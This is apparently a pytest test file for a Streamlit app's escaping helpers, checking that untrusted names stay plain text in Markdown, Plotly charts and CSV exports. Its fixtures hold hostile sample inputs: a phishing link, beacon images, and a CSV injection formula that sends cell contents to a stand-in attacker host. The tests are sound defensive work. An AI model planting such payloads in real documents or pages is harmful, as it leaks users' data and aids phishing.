"""components.plain: untrusted text stays text in Markdown, in a chart and in a CSV download."""
from __future__ import annotations

import html
import io
import re

import pandas as pd
import plotly.graph_objects as go
import pytest
from markdown_it import MarkdownIt

from components.plain import chart_text, csv_text, figure, md
from components.tables import csv_bytes

HOSTILE = (
    "[Click here to sign in again](https://evil.example/login)",
    "![x](http://127.0.0.1:9/beacon.png)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    ":red[Red] :material/warning: $x^2$ **Bold** _it_ ~~gone~~ `code`",
    '<img src="http://127.0.0.1:9/x.png"> &lt; &amp; \\* back\\slash',
    "# Heading\n- list\n1. item\n> quote\n| a | b |\n|---|---|",
    "www.evil.example, mail@evil.example, <https://evil.example>",
    ":smile: :+1: 12:30:45",
    "O'Neil & Sons (est. 1901) - 50% off!",
)
# CommonMark with GFM's tables and strikethrough, as Streamlit renders a paragraph
RENDER = MarkdownIt("commonmark").enable(["table", "strikethrough"])


@pytest.mark.parametrize("value", HOSTILE)
def test_md_renders_as_the_text_it_was(value: str) -> None:
    """One paragraph, no element in it, reading the value as written (line breaks as spaces)."""
    rendered = RENDER.render(f"Team: {md(value)}").strip()
    assert rendered.startswith("<p>") and rendered.endswith("</p>") and rendered.count("<p>") == 1, rendered
    inner = rendered.removeprefix("<p>").removesuffix("</p>")
    assert "<" not in inner, f"markup in {rendered}"
    shown = html.unescape(inner).replace("\u2060", "")
    assert shown == "Team: " + " ".join(value.split())


@pytest.mark.parametrize("value", HOSTILE)
def test_md_leaves_streamlits_later_steps_nothing_to_read(value: str) -> None:
    """Streamlit reads ``:material/`` icons in the source before parsing it, and turns a text's
    addresses into links and its :codes: into emoji after escapes are resolved: the escaped
    text holds no icon, and with its backslashes removed, no address and no code."""
    assert ":material/" not in md(value)
    resolved = re.sub(r"\\(.)", r"\1", md(value))
    assert not re.search(r"(?i)https?://|www\.|@\w|:[\w+-]+:", resolved), resolved


def test_md_keeps_plain_names_readable() -> None:
    assert md("Boston Red Sox") == "Boston Red Sox"
    assert md(1893) == "1893"


def test_chart_text_and_figure_keep_names_text_and_the_builders_tags() -> None:
    name = '<a href="https://evil.example/x">Chart Club</a>'
    fig = go.Figure(go.Bar(x=[1.0, 2.0], y=[name, "<b>bold</b> & co"], name=name, text=[name, "ok"],
                           hovertemplate="%{y}<br>%{x}<extra></extra>"))
    fig.add_scatter(x=[1, 2], y=[3, 4], name="plain")
    fig.add_annotation(text=f"{name}<br>second line")
    fig.update_layout(title={"text": f"NBA 2025: {name}<br>margins"}, yaxis_title=name)
    spec = figure(fig).to_plotly_json()
    texts = re.findall(r"<[^<>]*>", str(spec))
    assert set(texts) <= {"<br>", "<extra>", "</extra>"}, texts
    assert list(spec["data"][0]["y"]) == [chart_text(name), "&lt;b>bold&lt;/b> & co"]
    assert spec["layout"]["title"]["text"] == f"NBA 2025: {chart_text(name)}<br>margins"
    assert list(spec["data"][1]["y"]) == [3, 4], "numbers untouched"


def test_csv_text_follows_owasps_rule_and_leaves_numbers() -> None:
    for formula in ("=1+1", "+A1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "-", "+"):
        assert csv_text(formula) == "'" + formula
    for text in ("-150", "+135", "-1.5", "-.5", "1e-3", "Boston", "", "a=b"):
        assert csv_text(text) == text


def test_a_csv_download_neutralises_text_cells_only() -> None:
    frame = pd.DataFrame({
        "Team": ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "-2+3 Rovers", "Boston"],
        "Diff": [-5, 3, 0], "Rate": [-0.25, 0.5, 1.0], "Line": ["-150", "+135", None],
        "Leagues": [["@A", "B"], ["C"], []], "=Odd heading": ["x", "y", "z"]})
    frame["Name"] = pd.Series(["@x", "y", "z"], dtype="string")
    read = pd.read_csv(io.BytesIO(csv_bytes(frame)), keep_default_na=False, dtype=str)  # cells as written
    assert list(read["Team"]) == ['\'=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "'-2+3 Rovers", "Boston"]
    assert list(read["Diff"]) == ["-5", "3", "0"] and list(read["Rate"]) == ["-0.25", "0.5", "1.0"]
    assert list(read["Line"]) == ["-150", "+135", ""]  # a money line is a number, not a formula
    assert list(read["Leagues"]) == ["'@A, B", "C", ""]
    assert list(read["Name"]) == ["'@x", "y", "z"]
    assert "'=Odd heading" in read.columns
